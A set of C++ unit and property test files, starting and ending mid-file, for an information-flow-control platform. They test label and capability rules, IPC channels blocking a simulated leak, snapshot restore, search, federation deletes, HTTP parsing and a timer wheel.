      kernel_.spawn_trusted("accomplice", LabelState({}, {}, {}));
  auto ch = bus_.connect(malicious,
                         Endpoint({}, {}, Endpoint::Mode::kFixed), accomplice,
                         Endpoint({}, {}, Endpoint::Mode::kFixed));
  ASSERT_TRUE(ch.ok());
  ASSERT_TRUE(kernel_.raise_secrecy(malicious, Label{secret_}).ok());
  const auto status = bus_.send(malicious, ch.value(), "stolen");
  ASSERT_FALSE(status.ok());
  EXPECT_EQ(status.error().code, "endpoint.unsafe");
}

TEST_F(IpcTest, IntegrityEndorsementTravels) {
  Kernel kernel;
  IpcBus bus(kernel);
  const Tag wp =
      kernel.create_tag(kKernelPid, "wp(bob)", TagPurpose::kIntegrity)
          .value();
  const Pid endorsed =
      kernel.spawn_trusted("endorsed", LabelState({}, {wp}, {}));
  const Pid sink = kernel.spawn_trusted("sink", LabelState({}, {}, {}));
  auto ch = bus.connect(endorsed, Endpoint({}, Label{wp}), sink,
                        Endpoint({}, {}));
  ASSERT_TRUE(ch.ok());
  ASSERT_TRUE(bus.send(endorsed, ch.value(), "endorsed write").ok());
  auto msg = bus.receive(sink, ch.value());
  ASSERT_TRUE(msg.ok());
  EXPECT_EQ(msg.value().integrity, Label{wp});
}

TEST_F(IpcTest, SinkDemandingIntegrityRejectsUnendorsedSender) {
  Kernel kernel;
  IpcBus bus(kernel);
  const Tag wp =
      kernel.create_tag(kKernelPid, "wp(bob)", TagPurpose::kIntegrity)
          .value();
  const Pid plain = kernel.spawn_trusted("plain", LabelState({}, {}, {}));
  const Pid demanding =
      kernel.spawn_trusted("demanding", LabelState({}, {wp}, {}));
  auto ch = bus.connect(plain, Endpoint({}, {}), demanding,
                        Endpoint({}, Label{wp}));
  ASSERT_TRUE(ch.ok());
  const auto status = bus.send(plain, ch.value(), "unendorsed");
  EXPECT_FALSE(status.ok());
}

TEST_F(IpcTest, ChannelLifecycleErrors) {
  const Pid a = kernel_.spawn_trusted("a", LabelState({}, {}, {}));
  const Pid b = kernel_.spawn_trusted("b", LabelState({}, {}, {}));
  const Pid c = kernel_.spawn_trusted("c", LabelState({}, {}, {}));
  auto ch = bus_.connect_default(a, b);
  ASSERT_TRUE(ch.ok());
  EXPECT_EQ(bus_.send(c, ch.value(), "x").error().code, "ipc.not_attached");
  EXPECT_EQ(bus_.receive(c, ch.value()).error().code, "ipc.not_attached");
  EXPECT_EQ(bus_.send(a, 999, "x").error().code, "ipc.no_channel");
  ASSERT_TRUE(bus_.close(ch.value()).ok());
  EXPECT_EQ(bus_.send(a, ch.value(), "x").error().code, "ipc.no_channel");
  EXPECT_FALSE(bus_.close(ch.value()).ok());
}

TEST_F(IpcTest, DeadProcessCannotUseChannels) {
  const Pid a = kernel_.spawn_trusted("a", LabelState({}, {}, {}));
  const Pid b = kernel_.spawn_trusted("b", LabelState({}, {}, {}));
  auto ch = bus_.connect_default(a, b);
  ASSERT_TRUE(ch.ok());
  ASSERT_TRUE(kernel_.kill(a, "dead").ok());
  EXPECT_FALSE(bus_.send(a, ch.value(), "zombie").ok());
}

}  // namespace
}  // namespace w5::os
