#include <gtest/gtest.h>

#include "difc/capability.h"
#include "difc/flow.h"
#include "difc/label_state.h"
#include "util/rng.h"

namespace w5::difc {
namespace {

Tag t(std::uint64_t id) { return Tag(id); }

TEST(CapabilitySetTest, BasicMembership) {
  CapabilitySet caps{plus(t(1)), minus(t(2))};
  EXPECT_TRUE(caps.has_plus(t(1)));
  EXPECT_FALSE(caps.has_minus(t(1)));
  EXPECT_TRUE(caps.has_minus(t(2)));
  EXPECT_FALSE(caps.has_dual(t(1)));
  caps.add_dual(t(3));
  EXPECT_TRUE(caps.has_dual(t(3)));
  caps.remove(plus(t(3)));
  EXPECT_FALSE(caps.has_dual(t(3)));
  EXPECT_TRUE(caps.has_minus(t(3)));
}

TEST(CapabilitySetTest, MergeAndCovers) {
  CapabilitySet a{plus(t(1))};
  const CapabilitySet b{plus(t(2)), minus(t(3))};
  a.merge(b);
  EXPECT_EQ(a.size(), 3u);
  EXPECT_TRUE(a.covers(Label{t(1), t(2)}, CapSign::kPlus));
  EXPECT_FALSE(a.covers(Label{t(1), t(3)}, CapSign::kPlus));
  EXPECT_TRUE(a.covers(Label{}, CapSign::kMinus));  // vacuous
}

TEST(CapabilitySetTest, AddableRemovable) {
  const CapabilitySet caps{plus(t(1)), plus(t(2)), minus(t(2))};
  EXPECT_EQ(caps.addable(), (Label{t(1), t(2)}));
  EXPECT_EQ(caps.removable(), Label{t(2)});
}

TEST(LabelStateTest, RaiseSecrecyRequiresPlus) {
  LabelState state({}, {}, CapabilitySet{plus(t(1))});
  EXPECT_TRUE(state.raise_secrecy(Label{t(1)}).ok());
  EXPECT_EQ(state.secrecy(), Label{t(1)});
  const auto denied = state.raise_secrecy(Label{t(2)});
  EXPECT_FALSE(denied.ok());
  EXPECT_EQ(denied.error().code, "flow.denied");
  EXPECT_EQ(state.secrecy(), Label{t(1)});  // unchanged on failure
}

TEST(LabelStateTest, DropSecrecyRequiresMinus) {
  LabelState holder({t(1)}, {}, CapabilitySet{minus(t(1))});
  EXPECT_TRUE(holder.set_secrecy({}).ok());

  LabelState blocked({t(1)}, {}, CapabilitySet{plus(t(1))});
  EXPECT_FALSE(blocked.set_secrecy({}).ok());
}

TEST(LabelStateTest, IntegrityChangesUseSameRule) {
  // Self-endorsement (adding wp tag to I) needs t+; dropping needs t-.
  LabelState state({}, {}, CapabilitySet{plus(t(9))});
  EXPECT_TRUE(state.set_integrity(Label{t(9)}).ok());
  EXPECT_FALSE(state.set_integrity(Label{}).ok());  // no t9-
  state.owned().add(minus(t(9)));
  EXPECT_TRUE(state.set_integrity(Label{}).ok());
}

TEST(LabelStateTest, ClearanceAndFloor) {
  const LabelState state({t(1)}, {t(5), t(6)},
                         CapabilitySet{plus(t(2)), minus(t(5))});
  EXPECT_EQ(state.secrecy_clearance(), (Label{t(1), t(2)}));
  EXPECT_EQ(state.integrity_floor(), Label{t(6)});
}

TEST(FlowTest, MessageFlowRequiresSecrecySubsetAndIntegrityDominance) {
  const LabelState low({}, {}, {});
  const LabelState high({t(1)}, {}, {});
  EXPECT_TRUE(check_flow(low, high).ok());
  EXPECT_FALSE(check_flow(high, low).ok());

  const LabelState endorsed({}, {t(7)}, {});
  EXPECT_TRUE(check_flow(endorsed, low).ok());   // dropping integrity ok
  EXPECT_FALSE(check_flow(low, endorsed).ok());  // sink demands endorsement
}

TEST(FlowTest, ReadChecks) {
  const ObjectLabels secret{Label{t(1)}, {}};
  LabelState cleared({t(1)}, {}, {});
  EXPECT_TRUE(check_read(cleared, secret).ok());
  LabelState uncleared({}, {}, {});
  EXPECT_FALSE(check_read(uncleared, secret).ok());

  // Integrity: a process that *requires* endorsement t7 cannot read
  // unendorsed data.
  const ObjectLabels unendorsed{{}, {}};
  LabelState demanding({}, {t(7)}, {});
  EXPECT_FALSE(check_read(demanding, unendorsed).ok());
  const ObjectLabels endorsed_obj{{}, Label{t(7)}};
  EXPECT_TRUE(check_read(demanding, endorsed_obj).ok());
}

TEST(FlowTest, WriteChecks) {
  // Contaminated process cannot write to a public object (leak).
  LabelState contaminated({t(1)}, {}, {});
  const ObjectLabels public_obj{{}, {}};
  EXPECT_FALSE(check_write(contaminated, public_obj).ok());
  const ObjectLabels matching{Label{t(1)}, {}};
  EXPECT_TRUE(check_write(contaminated, matching).ok());

  // Write-protected object demands the writer carry wp tag in I.
  const ObjectLabels protected_obj{{}, Label{t(9)}};
  LabelState plain({}, {}, {});
  EXPECT_FALSE(check_write(plain, protected_obj).ok());
  LabelState endorsed({}, {t(9)}, {});
  EXPECT_TRUE(check_write(endorsed, protected_obj).ok());
}

TEST(FlowTest, ExportRequiresDeclassificationAuthority) {
  EXPECT_TRUE(check_export(Label{}, {}).ok());
  const auto denied = check_export(Label{t(1)}, {});
  EXPECT_FALSE(denied.ok());
  EXPECT_EQ(denied.error().code, "perimeter.denied");
  EXPECT_TRUE(check_export(Label{t(1)}, CapabilitySet{minus(t(1))}).ok());
  // Plus capability is NOT export authority.
  EXPECT_FALSE(check_export(Label{t(1)}, CapabilitySet{plus(t(1))}).ok());
}

TEST(FlowTest, JoinCombinesLabels) {
  const ObjectLabels a{Label{t(1)}, Label{t(5), t(6)}};
  const ObjectLabels b{Label{t(2)}, Label{t(6)}};
  const ObjectLabels j = join(a, b);
  EXPECT_EQ(j.secrecy, (Label{t(1), t(2)}));
  EXPECT_EQ(j.integrity, Label{t(6)});  // integrity meets (weakest)
}

// ---- Property suite: soundness and completeness of the safe-change rule.
class SafeChangeProperty : public ::testing::TestWithParam<std::uint64_t> {};

TEST_P(SafeChangeProperty, ChangeIsSafeIffCapabilitiesCoverDelta) {
  util::Rng rng(GetParam());
  for (int round = 0; round < 500; ++round) {
    // Universe of 8 tags; random from/to labels and random capability set.
    std::vector<Tag> from_tags, to_tags;
    std::vector<Capability> caps;
    for (std::uint64_t id = 1; id <= 8; ++id) {
      if (rng.next_bool()) from_tags.push_back(t(id));
      if (rng.next_bool()) to_tags.push_back(t(id));
      if (rng.next_bool(0.4)) caps.push_back(plus(t(id)));
      if (rng.next_bool(0.4)) caps.push_back(minus(t(id)));
    }
    const Label from(from_tags), to(to_tags);
    const CapabilitySet owned(caps);
    const LabelState state(from, {}, owned);

    // Oracle: recompute from first principles.
    bool expect_safe = true;
    for (std::uint64_t id = 1; id <= 8; ++id) {
      const bool in_from = from.contains(t(id));
      const bool in_to = to.contains(t(id));
      if (!in_from && in_to && !owned.has_plus(t(id))) expect_safe = false;
      if (in_from && !in_to && !owned.has_minus(t(id))) expect_safe = false;
    }
    EXPECT_EQ(state.change_is_safe(from, to), expect_safe)
        << from.to_string() << " -> " << to.to_string() << " owned "
        << owned.to_string();
  }
}

TEST_P(SafeChangeProperty, DualPrivilegeAllowsEverything) {
  util::Rng rng(GetParam() * 977);
  CapabilitySet all;
  for (std::uint64_t id = 1; id <= 8; ++id) all.add_dual(t(id));
  for (int round = 0; round < 100; ++round) {
    std::vector<Tag> from_tags, to_tags;
    for (std::uint64_t id = 1; id <= 8; ++id) {
      if (rng.next_bool()) from_tags.push_back(t(id));
      if (rng.next_bool()) to_tags.push_back(t(id));
    }
    const LabelState state(Label(from_tags), {}, all);
    EXPECT_TRUE(state.change_is_safe(Label(from_tags), Label(to_tags)));
  }
}

TEST_P(SafeChangeProperty, NoCapabilitiesMeansLabelIsFrozen) {
  util::Rng rng(GetParam() + 5);
  for (int round = 0; round < 100; ++round) {
    std::vector<Tag> from_tags, to_tags;
    for (std::uint64_t id = 1; id <= 8; ++id) {
      if (rng.next_bool()) from_tags.push_back(t(id));
      if (rng.next_bool()) to_tags.push_back(t(id));
    }
    const Label from(from_tags), to(to_tags);
    const LabelState state(from, {}, {});
    EXPECT_EQ(state.change_is_safe(from, to), from == to);
  }
}

INSTANTIATE_TEST_SUITE_P(Seeds, SafeChangeProperty,
                         ::testing::Values(11, 22, 33, 44, 55, 66));

// ---- Property: flow transitivity — if a→b and b→c then a→c must hold
// (no laundering through an intermediate process without privilege).
class FlowTransitivity : public ::testing::TestWithParam<std::uint64_t> {};

TEST_P(FlowTransitivity, NoPrivilegeFreeLaundering) {
  util::Rng rng(GetParam());
  for (int round = 0; round < 300; ++round) {
    const auto random_state = [&] {
      std::vector<Tag> s, i;
      for (std::uint64_t id = 1; id <= 6; ++id) {
        if (rng.next_bool()) s.push_back(t(id));
        if (rng.next_bool(0.3)) i.push_back(t(id));
      }
      return LabelState(Label(s), Label(i), {});
    };
    const LabelState a = random_state(), b = random_state(),
                     c = random_state();
    if (check_flow(a, b).ok() && check_flow(b, c).ok()) {
      EXPECT_TRUE(check_flow(a, c).ok())
          << a.to_string() << " / " << b.to_string() << " / " << c.to_string();
    }
  }
}

INSTANTIATE_TEST_SUITE_P(Seeds, FlowTransitivity,
                         ::testing::Values(101, 202, 303, 404));

}  // namespace
}  // namespace w5::difc
