// Tests for the platform extensions: provider snapshot/restore, the
// /search and /developers endpoints, and federation delete tombstones.
#include <gtest/gtest.h>

#include "apps/apps.h"
#include "core/gateway.h"
#include "core/provider.h"
#include "fed/node.h"

namespace w5::platform {
namespace {

using net::Method;

TEST(ProviderSnapshotTest, FullStateRoundTrip) {
  util::SimClock clock;
  Provider original(ProviderConfig{}, clock);
  apps::register_standard_apps(original);
  ASSERT_TRUE(original.signup("bob", "bobpw").ok());
  ASSERT_TRUE(original.signup("alice", "alicepw").ok());
  const std::string bob = original.login("bob", "bobpw").value();
  ASSERT_EQ(original.http(Method::kPost, "/data/photos/p1",
                          R"({"title":"secret"})", bob).status,
            201);
  ASSERT_EQ(original.http(Method::kPost, "/policy",
                          R"({"declassifier":"std/friends",
                              "write_grants":["photoco/photos"]})",
                          bob).status,
            200);
  ASSERT_TRUE(original.fs()
                  .create(os::kKernelPid, "/users/bob/note.txt",
                          difc::ObjectLabels{
                              difc::Label{original.users().find("bob")
                                              ->secrecy_tag},
                              {}},
                          "remember the milk")
                  .ok());

  const util::Json snapshot = original.snapshot();
  // Snapshot must survive serialization to text.
  auto reparsed = util::Json::parse(snapshot.dump());
  ASSERT_TRUE(reparsed.ok());

  util::SimClock clock2;
  Provider restored(ProviderConfig{}, clock2);
  apps::register_standard_apps(restored);  // code is redeployed, not data
  ASSERT_TRUE(restored.restore(reparsed.value()).ok());

  // Accounts work (same password hash), policies survived, data intact.
  const std::string bob2 = restored.login("bob", "bobpw").value();
  EXPECT_FALSE(restored.login("bob", "wrong").ok());
  EXPECT_EQ(restored.policies().get("bob").secrecy_declassifier,
            "std/friends");
  EXPECT_EQ(restored.store()
                .get(os::kKernelPid, "photos", "p1").value()
                .data.at("title").as_string(),
            "secret");
  EXPECT_EQ(restored.fs().read(os::kKernelPid, "/users/bob/note.txt").value(),
            "remember the milk");

  // Labels still enforce: alice is still locked out after restore.
  ASSERT_TRUE(restored.signup("carol", "carolpw").ok());
  const std::string carol = restored.login("carol", "carolpw").value();
  EXPECT_EQ(restored.http(Method::kGet, "/data/photos/p1", "", carol).status,
            403);
  EXPECT_EQ(restored.http(Method::kGet, "/data/photos/p1", "", bob2).status,
            200);
  // New tags keep minting past restored ones (no id collision).
  EXPECT_NE(restored.users().find("carol")->secrecy_tag,
            restored.users().find("bob")->secrecy_tag);
}

TEST(ProviderSnapshotTest, RestoreRejectsCorruptSnapshots) {
  util::SimClock clock;
  Provider provider(ProviderConfig{}, clock);
  EXPECT_FALSE(provider.restore(util::Json("junk")).ok());
  util::Json wrong_format;
  wrong_format["format"] = 99;
  EXPECT_FALSE(provider.restore(wrong_format).ok());
}

TEST(ProviderSnapshotTest, RestoreDropsLiveSessions) {
  util::SimClock clock;
  Provider provider(ProviderConfig{}, clock);
  ASSERT_TRUE(provider.signup("bob", "bobpw").ok());
  const std::string session = provider.login("bob", "bobpw").value();
  const util::Json snapshot = provider.snapshot();
  ASSERT_TRUE(provider.restore(snapshot).ok());
  // The old cookie no longer authenticates.
  EXPECT_EQ(provider.http(Method::kGet, "/whoami", "", session).body,
            R"({"user":null})");
}

TEST(SearchEndpointTest, RanksAndFilters) {
  util::SimClock clock;
  Provider provider(ProviderConfig{}, clock);
  apps::register_standard_apps(provider);
  ASSERT_TRUE(provider.signup("bob", "bobpw").ok());
  const std::string bob = provider.login("bob", "bobpw").value();

  // Drive some usage so popularity has signal.
  for (int i = 0; i < 5; ++i)
    (void)provider.http(Method::kGet, "/dev/photoco/photos/list", "", bob);

  const auto hits = provider.http(Method::kGet, "/search?q=photo");
  EXPECT_EQ(hits.status, 200);
  EXPECT_NE(hits.body.find("photoco/photos@1.0"), std::string::npos);
  EXPECT_EQ(hits.body.find("blogco"), std::string::npos);

  const auto all = provider.http(Method::kGet, "/search?n=3");
  EXPECT_EQ(all.status, 200);
  // Limit applies: at most 3 results.
  std::size_t count = 0;
  for (std::size_t pos = all.body.find("\"module\""); pos != std::string::npos;
       pos = all.body.find("\"module\"", pos + 1))
    ++count;
  EXPECT_LE(count, 3u);

  const auto developers = provider.http(Method::kGet, "/developers");
  EXPECT_EQ(developers.status, 200);
  EXPECT_NE(developers.body.find("photoco"), std::string::npos);
}

TEST(SearchEndpointTest, ForkEdgesFeedTheGraph) {
  util::SimClock clock;
  Provider provider(ProviderConfig{}, clock);
  apps::register_standard_apps(provider);
  ASSERT_TRUE(provider.modules().fork("photoco/photos@1.0", "devZ",
                                      "zphotos").ok());
  const auto hits = provider.http(Method::kGet, "/search?q=photos");
  EXPECT_EQ(hits.status, 200);
  EXPECT_NE(hits.body.find("devZ/zphotos@1.0"), std::string::npos);
  // The fork's import edge boosts the original's pagerank above the
  // fork's own.
  const auto pr_of = [&](const std::string& id) {
    const auto pos = hits.body.find(id);
    const auto pr_pos = hits.body.find("\"pagerank\":", pos);
    return hits.body.substr(pr_pos + 11, 8);
  };
  (void)pr_of;  // order assertion below is the robust check
  EXPECT_LT(hits.body.find("photoco/photos@1.0"),
            hits.body.find("devZ/zphotos@1.0"));
}

TEST(DevStatsTest, AggregatesScrubbedFailureSignals) {
  util::SimClock clock;
  ProviderConfig config;
  config.request_limits.cpu_ticks = 5;
  Provider provider(config, clock);
  ASSERT_TRUE(provider.signup("bob", "bobpw").ok());
  const std::string bob = provider.login("bob", "bobpw").value();

  Module flaky;
  flaky.developer = "devF";
  flaky.name = "flaky";
  flaky.version = "1.0";
  flaky.handler = [](AppContext& ctx) -> net::HttpResponse {
    if (ctx.query_param("mode") == "crash")
      throw std::runtime_error("secret-bearing message");
    if (ctx.query_param("mode") == "hog") {
      while (ctx.charge(os::Resource::kCpu, 1).ok()) {
      }
      return net::HttpResponse::text(200, "past quota");
    }
    return net::HttpResponse::text(200, "fine");
  };
  ASSERT_TRUE(provider.modules().add(flaky).ok());

  (void)provider.http(Method::kGet, "/dev/devF/flaky?mode=crash", "", bob);
  (void)provider.http(Method::kGet, "/dev/devF/flaky?mode=crash", "", bob);
  (void)provider.http(Method::kGet, "/dev/devF/flaky?mode=hog", "", bob);
  (void)provider.http(Method::kGet, "/dev/devF/flaky", "", bob);

  const auto stats =
      provider.http(Method::kGet, "/dev-stats?app=devF/flaky@1.0");
  EXPECT_EQ(stats.status, 200);
  EXPECT_NE(stats.body.find("\"errors\":2"), std::string::npos)
      << stats.body;
  EXPECT_NE(stats.body.find("\"quota_kills\":"), std::string::npos);
  // Scrubbed: the exception *message* (with secrets) never appears.
  EXPECT_EQ(stats.body.find("secret-bearing"), std::string::npos);

  EXPECT_EQ(provider.http(Method::kGet, "/dev-stats").status, 400);
}

class TombstoneTest : public ::testing::Test {
 protected:
  TombstoneTest()
      : provider_a_(ProviderConfig{.name = "providerA"}, clock_),
        provider_b_(ProviderConfig{.name = "providerB"}, clock_),
        node_a_("providerA", provider_a_, network_),
        node_b_("providerB", provider_b_, network_) {}

  void SetUp() override {
    ASSERT_TRUE(provider_a_.signup("bob", "pwd").ok());
    ASSERT_TRUE(provider_b_.signup("bob", "pwd").ok());
    node_a_.mirrors().authorize("bob", "providerB");
    node_b_.mirrors().authorize("bob", "providerA");
    util::Json data;
    data["title"] = "to be deleted";
    ASSERT_TRUE(node_a_.put_user_record("bob", "photos", "p1", data).ok());
    ASSERT_TRUE(node_b_.sync_from("providerA").ok());
  }

  util::SimClock clock_;
  net::InMemoryNetwork network_;
  Provider provider_a_;
  Provider provider_b_;
  fed::Node node_a_;
  fed::Node node_b_;
};

TEST_F(TombstoneTest, DeletePropagatesToPeer) {
  clock_.advance(10);
  ASSERT_TRUE(node_a_.delete_user_record("bob", "photos", "p1").ok());
  EXPECT_TRUE(node_a_.has_tombstone("photos", "p1"));
  auto stats = node_b_.sync_from("providerA");
  ASSERT_TRUE(stats.ok());
  EXPECT_EQ(stats.value().applied, 1u);
  EXPECT_FALSE(
      provider_b_.store().get(os::kKernelPid, "photos", "p1").ok());
  EXPECT_TRUE(node_b_.has_tombstone("photos", "p1"));
  // Idempotent.
  auto again = node_b_.sync_from("providerA");
  ASSERT_TRUE(again.ok());
  EXPECT_EQ(again.value().applied, 0u);
}

TEST_F(TombstoneTest, ResurrectionAfterDeleteWins) {
  clock_.advance(10);
  ASSERT_TRUE(node_a_.delete_user_record("bob", "photos", "p1").ok());
  ASSERT_TRUE(node_b_.sync_from("providerA").ok());
  clock_.advance(10);
  util::Json reborn;
  reborn["title"] = "reborn";
  ASSERT_TRUE(node_b_.put_user_record("bob", "photos", "p1", reborn).ok());
  EXPECT_FALSE(node_b_.has_tombstone("photos", "p1"));
  ASSERT_TRUE(node_a_.sync_from("providerB").ok());
  EXPECT_EQ(provider_a_.store()
                .get(os::kKernelPid, "photos", "p1").value()
                .data.at("title").as_string(),
            "reborn");
  EXPECT_FALSE(node_a_.has_tombstone("photos", "p1"));
}

TEST_F(TombstoneTest, ConcurrentEditVsDeleteResolvesByTime) {
  // A deletes at t=100; B edits at t=200 (later): the edit wins on both.
  clock_.advance(100);
  ASSERT_TRUE(node_a_.delete_user_record("bob", "photos", "p1").ok());
  clock_.advance(100);
  util::Json edit;
  edit["title"] = "edited on B";
  ASSERT_TRUE(node_b_.put_user_record("bob", "photos", "p1", edit).ok());

  ASSERT_TRUE(node_b_.sync_from("providerA").ok());
  ASSERT_TRUE(node_a_.sync_from("providerB").ok());
  EXPECT_TRUE(provider_a_.store().get(os::kKernelPid, "photos", "p1").ok());
  EXPECT_TRUE(provider_b_.store().get(os::kKernelPid, "photos", "p1").ok());
  EXPECT_EQ(provider_a_.store()
                .get(os::kKernelPid, "photos", "p1").value()
                .data.at("title").as_string(),
            "edited on B");
}

}  // namespace
}  // namespace w5::platform
