// Cross-cutting property suites: randomized HTTP wire round-trips under
// arbitrary chunking, and a store shadow-model equivalence check.
#include <gtest/gtest.h>

#include <map>

#include "net/http_parser.h"
#include "store/labeled_store.h"
#include "util/rng.h"

namespace w5 {
namespace {

// ---- HTTP parser: any serialized request parses back identically no
// matter how the bytes are chunked on the wire.
class HttpChunkingProperty : public ::testing::TestWithParam<std::uint64_t> {
};

net::HttpRequest random_request(util::Rng& rng) {
  net::HttpRequest request;
  static constexpr net::Method kMethods[] = {
      net::Method::kGet, net::Method::kPost, net::Method::kPut,
      net::Method::kDelete};
  request.method = kMethods[rng.next_below(4)];
  std::string target = "/";
  const std::size_t segments = rng.next_below(4);
  for (std::size_t i = 0; i < segments; ++i) {
    if (i > 0) target += "/";
    target += rng.next_string(1 + rng.next_below(8));
  }
  if (rng.next_bool()) {
    target += "?" + rng.next_string(3) + "=" + rng.next_string(5);
  }
  request.target = target;
  const std::size_t headers = rng.next_below(5);
  for (std::size_t i = 0; i < headers; ++i) {
    request.headers.add("X-" + rng.next_string(6), rng.next_string(12));
  }
  if (request.method != net::Method::kGet &&
      request.method != net::Method::kDelete) {
    request.body = rng.next_string(rng.next_below(500));
  }
  return request;
}

TEST_P(HttpChunkingProperty, RoundTripsUnderArbitraryChunking) {
  util::Rng rng(GetParam());
  for (int round = 0; round < 50; ++round) {
    const net::HttpRequest original = random_request(rng);
    const std::string wire = original.to_wire();

    net::RequestParser parser;
    std::size_t pos = 0;
    while (pos < wire.size() && !parser.complete() && !parser.failed()) {
      const std::size_t chunk = 1 + rng.next_below(17);
      const std::size_t take = std::min(chunk, wire.size() - pos);
      parser.feed(std::string_view(wire).substr(pos, take));
      pos += take;
    }
    ASSERT_TRUE(parser.complete())
        << "failed at round " << round << ": " << wire;
    const net::HttpRequest parsed = parser.take();
    EXPECT_EQ(parsed.method, original.method);
    EXPECT_EQ(parsed.target, original.target);
    EXPECT_EQ(parsed.body, original.body);
    for (const auto& [name, value] : original.headers.entries()) {
      EXPECT_EQ(parsed.headers.get(name), value);
    }
  }
}

INSTANTIATE_TEST_SUITE_P(Seeds, HttpChunkingProperty,
                         ::testing::Values(1, 2, 3, 4, 5, 6));

// ---- Store shadow model: random put/get/remove sequences agree with a
// plain map when the caller is omniscient (kernel), and agree with the
// clearance-filtered view for a restricted process.
class StoreShadowProperty : public ::testing::TestWithParam<std::uint64_t> {};

TEST_P(StoreShadowProperty, KernelViewMatchesPlainMap) {
  util::Rng rng(GetParam());
  os::Kernel kernel;
  util::SimClock clock;
  store::LabeledStore labeled(kernel, clock);
  std::map<std::string, std::string> shadow;  // id -> title

  const difc::Tag tag =
      kernel.create_tag(os::kKernelPid, "t", difc::TagPurpose::kSecrecy)
          .value();

  for (int op = 0; op < 400; ++op) {
    const std::string id = "r" + std::to_string(rng.next_below(40));
    const int action = static_cast<int>(rng.next_below(3));
    if (action == 0) {  // put
      const std::string title = rng.next_string(8);
      store::Record record;
      record.collection = "c";
      record.id = id;
      record.owner = "u";
      if (rng.next_bool()) {
        record.labels = difc::ObjectLabels{difc::Label{tag}, {}};
      }
      record.data["title"] = title;
      // Overwrites keep original labels; content updates regardless.
      ASSERT_TRUE(labeled.put(os::kKernelPid, std::move(record)).ok());
      shadow[id] = title;
    } else if (action == 1) {  // get
      auto result = labeled.get(os::kKernelPid, "c", id);
      const auto it = shadow.find(id);
      ASSERT_EQ(result.ok(), it != shadow.end()) << "id " << id;
      if (result.ok()) {
        EXPECT_EQ(result.value().data.at("title").as_string(), it->second);
      }
    } else {  // remove
      auto result = labeled.remove(os::kKernelPid, "c", id);
      EXPECT_EQ(result.ok(), shadow.erase(id) > 0);
    }
    // Global invariant: counts agree.
    ASSERT_EQ(labeled.count(os::kKernelPid, "c").value(), shadow.size());
  }
}

TEST_P(StoreShadowProperty, RestrictedViewSeesExactlyClearedSubset) {
  util::Rng rng(GetParam() * 131 + 7);
  os::Kernel kernel;
  util::SimClock clock;
  store::LabeledStore labeled(kernel, clock);

  const difc::Tag visible_tag =
      kernel.create_tag(os::kKernelPid, "vis", difc::TagPurpose::kSecrecy)
          .value();
  const difc::Tag hidden_tag =
      kernel.create_tag(os::kKernelPid, "hid", difc::TagPurpose::kSecrecy)
          .value();

  std::set<std::string> visible_ids, all_ids;
  for (int i = 0; i < 120; ++i) {
    const std::string id = "r" + std::to_string(i);
    store::Record record;
    record.collection = "c";
    record.id = id;
    record.owner = "u";
    const int kind = static_cast<int>(rng.next_below(3));
    if (kind == 0) {
      // public
      visible_ids.insert(id);
    } else if (kind == 1) {
      record.labels = difc::ObjectLabels{difc::Label{visible_tag}, {}};
      visible_ids.insert(id);
    } else {
      record.labels = difc::ObjectLabels{difc::Label{hidden_tag}, {}};
    }
    all_ids.insert(id);
    ASSERT_TRUE(labeled.put(os::kKernelPid, std::move(record)).ok());
  }

  const os::Pid app = kernel.spawn_trusted(
      "app", difc::LabelState({}, {},
                              difc::CapabilitySet{difc::plus(visible_tag)}));
  auto ids = labeled.list_ids(app, "c");
  ASSERT_TRUE(ids.ok());
  const std::set<std::string> seen(ids.value().begin(), ids.value().end());
  EXPECT_EQ(seen, visible_ids);
  EXPECT_EQ(labeled.count(app, "c").value(), visible_ids.size());
  // And the kernel still sees everything.
  EXPECT_EQ(labeled.count(os::kKernelPid, "c").value(), all_ids.size());
  // Every visible record is gettable; every hidden one is not_found.
  for (const auto& id : all_ids) {
    const bool should_see = visible_ids.contains(id);
    EXPECT_EQ(labeled.get(app, "c", id, store::Raise::kYes).ok(), should_see)
        << id;
  }
}

INSTANTIATE_TEST_SUITE_P(Seeds, StoreShadowProperty,
                         ::testing::Values(10, 20, 30, 40));

}  // namespace
}  // namespace w5
