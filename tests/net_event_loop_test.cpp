// Reactor serving core (DESIGN.md §15): the epoll edge-triggered
// EventLoopHttpServer and its hashed timer wheel. Covers the wheel's
// schedule/expire/lap semantics, then drives the reactor over real TCP
// sockets: keep-alive, pipelining, slow-client reaping (408 / silent
// close / write timeout), dispatch-time shedding, oversize rejections,
// fault injection through the connection decorator, and the
// connection-plane gauges under hundreds of idle connections.
#include <gtest/gtest.h>

#include <atomic>
#include <chrono>
#include <condition_variable>
#include <memory>
#include <mutex>
#include <string>
#include <thread>
#include <vector>

#include "net/event_loop_server.h"
#include "net/fault.h"
#include "net/http_client.h"
#include "net/tcp.h"
#include "net/timer_wheel.h"
#include "net/tracing.h"
#include "os/thread_pool.h"
#include "util/clock.h"
#include "util/metrics.h"

namespace w5::net {
namespace {

using namespace std::chrono_literals;

// ---- Timer wheel -----------------------------------------------------------

TEST(TimerWheel, FiresOnlyOncePastDeadline) {
  TimerWheel wheel(1'000, 8);
  wheel.schedule(0, 2'500, 42);
  EXPECT_EQ(wheel.size(), 1u);

  std::vector<std::uint64_t> fired;
  const auto collect = [&](std::uint64_t key, util::Micros) {
    fired.push_back(key);
  };
  wheel.expire(2'000, collect);
  EXPECT_TRUE(fired.empty()) << "fired before its deadline";
  wheel.expire(3'000, collect);
  ASSERT_EQ(fired.size(), 1u);
  EXPECT_EQ(fired[0], 42u);
  EXPECT_TRUE(wheel.empty());
  wheel.expire(10'000, collect);
  EXPECT_EQ(fired.size(), 1u) << "an entry fired twice";
}

TEST(TimerWheel, EntryBeyondHorizonSurvivesTheLap) {
  TimerWheel wheel(1'000, 4);  // 4 ms horizon
  wheel.schedule(0, 6'500, 7);  // > one revolution out
  std::vector<std::uint64_t> fired;
  const auto collect = [&](std::uint64_t key, util::Micros) {
    fired.push_back(key);
  };
  // A full revolution passes its slot once without firing it.
  wheel.expire(4'000, collect);
  EXPECT_TRUE(fired.empty());
  EXPECT_EQ(wheel.size(), 1u);
  wheel.expire(7'000, collect);
  ASSERT_EQ(fired.size(), 1u);
  EXPECT_EQ(fired[0], 7u);
}

TEST(TimerWheel, PastDeadlineFiresWithinOneSlot) {
  TimerWheel wheel(1'000, 8);
  wheel.schedule(5'000, 1'000, 9);  // already overdue when scheduled
  std::vector<std::uint64_t> fired;
  wheel.expire(6'100, [&](std::uint64_t key, util::Micros) {
    fired.push_back(key);
  });
  ASSERT_EQ(fired.size(), 1u);
  EXPECT_EQ(fired[0], 9u);
}

